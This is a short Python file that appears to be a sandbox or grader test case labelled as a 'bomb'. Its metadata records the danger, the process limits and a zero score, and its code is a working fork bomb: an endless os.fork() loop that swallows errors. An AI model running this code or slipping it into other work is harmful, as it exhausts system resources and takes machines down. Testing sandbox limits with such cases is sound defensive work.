# intent: every process starts two more, without end
# family: bombs
# danger: yes
# stock: not run: it would take this machine down
# limits: cell_seconds=4 submission_seconds=15 processes=64
# earns: 0

# %%
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
